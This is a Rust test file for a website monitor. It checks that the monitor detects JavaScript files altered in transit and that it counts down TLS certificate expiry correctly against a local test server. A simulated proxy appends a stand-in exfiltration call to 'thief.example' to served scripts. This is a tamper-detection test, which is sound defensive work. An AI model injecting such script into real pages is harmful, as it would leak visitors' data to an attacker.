use super::*;
use axum::{Router, http::Uri, response::IntoResponse};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_rustls::{
    TlsAcceptor,
    rustls::{
        ServerConfig,
        pki_types::{CertificateDer, PrivateKeyDer, pem::PemObject},
    },
};

const AUTHORITY: &[u8] = include_bytes!("../../../platform/notify/tests/it/tls/authority.pem");
const SERVER: &[u8] = include_bytes!("../../../platform/notify/tests/it/tls/server.pem");
const KEY: &[u8] = include_bytes!("../../../platform/notify/tests/it/tls/server.key");

fn outside(site: &str) -> Outside {
    let authority = reqwest::Certificate::from_pem(AUTHORITY).unwrap();
    let client = client().tls_certs_only([authority]).build().unwrap();
    let every = Duration::from_secs(1);
    Outside { client, site: Url::parse(site).unwrap(), every, outlook: Arc::default(), turn: 0 }
}

/// A site as a proxy would serve it, which puts a line of its own into files once it is told to.
async fn site(meddles: Arc<AtomicBool>) -> String {
    let serve = move |uri: Uri| {
        let meddles = meddles.load(Relaxed);
        async move {
            let name = uri.path().trim_start_matches('/');
            let mut file = web::file(if name.is_empty() { PAGE } else { name }).unwrap_or_default();
            if meddles && name.ends_with(".js") {
                file.extend_from_slice(b";send('https://thief.example')");
            }
            file.into_response()
        }
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, Router::new().fallback(serve)).await });
    format!("http://{address}")
}

#[tokio::test]
async fn a_file_that_somebody_changed_on_the_way_is_seen() {
    if web::file(PAGE).is_none() {
        eprintln!("skipped: this program was built without its console");
        return;
    }
    let meddles = Arc::new(AtomicBool::new(false));
    let mut outside = outside(&site(Arc::clone(&meddles)).await);
    let facts = || BTreeMap::from([("site_reachable", 1), ("site_drift", 0)]);
    outside.look().await;
    assert_eq!(outside.outlook.facts(), facts());
    meddles.store(true, Relaxed);
    outside.look().await;
    let drifted = outside.outlook.facts()["site_drift"];
    assert!(drifted >= 2, "theme.js and what the page begins with: {drifted}");
    meddles.store(false, Relaxed);
    outside.look().await;
    assert_eq!(outside.outlook.facts(), facts());
    outside.site = Url::parse("http://127.0.0.1:9").unwrap();
    outside.look().await;
    assert_eq!(outside.outlook.facts(), BTreeMap::from([("site_reachable", 0)]));
}

#[tokio::test]
async fn a_certificate_says_how_long_it_is_good() {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let chain = vec![CertificateDer::from_pem_slice(SERVER).unwrap()];
    let key = PrivateKeyDer::from_pem_slice(KEY).unwrap();
    let config = ServerConfig::builder().with_no_client_auth().with_single_cert(chain, key).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let acceptor = TlsAcceptor::from(Arc::new(config));
        while let Ok((stream, _)) = listener.accept().await {
            let Ok(mut stream) = acceptor.accept(stream).await else { continue };
            let _ = stream.read(&mut [0; 4096]).await;
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nhi").await;
            let _ = stream.shutdown().await;
        }
    });
    let seen = outside(&format!("https://localhost:{port}")).see().await.unwrap();
    assert!(seen.certificate_days.unwrap() > 10_000, "{seen:?}");
    // Whoever does not know the authority does not reach the site.
    let stranger = Outside { client: client().build().unwrap(), ..outside(&format!("https://localhost:{port}")) };
    assert!(stranger.see().await.is_err());
}

#[test]
fn days_are_counted_to_the_end_and_past_it() {
    let der = CertificateDer::from_pem_slice(SERVER).unwrap();
    let ends = Certificate::from_der(&der).unwrap().tbs_certificate.validity.not_after.to_unix_duration().as_secs();
    for (now, days) in [(ends - 3 * DAY, 3), (ends - 3 * DAY + 1, 2), (ends, 0), (ends + 1, -1), (ends + DAY, -2)] {
        assert_eq!(days_left(&der, now).unwrap(), days);
    }
    assert!(days_left(b"no certificate", 0).is_err());
}
